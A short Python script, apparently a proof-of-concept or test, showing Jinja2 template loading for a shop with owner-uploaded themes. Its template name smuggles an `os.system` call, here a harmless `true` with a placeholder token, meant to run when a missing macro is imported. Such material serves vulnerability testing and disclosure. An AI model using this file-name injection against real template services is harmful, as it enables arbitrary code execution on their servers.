"""A shop whose owners upload themes: file names and texts come from them."""

from jinja2 import DictLoader, Environment


class Shop:
    def __init__(self, files):
        self.files = dict(files)

    @property
    def pages(self):
        return Environment(loader=DictLoader(self.files))

    def show(self, name):
        return self.pages.get_template(name).render()


PAGE = '{__import__("os").system("true @@TOKEN@@")}'

shop = Shop({"parts": "nothing to import", PAGE: "{% from 'parts' import header %}{{ header }}"})
print(shop.show(PAGE))
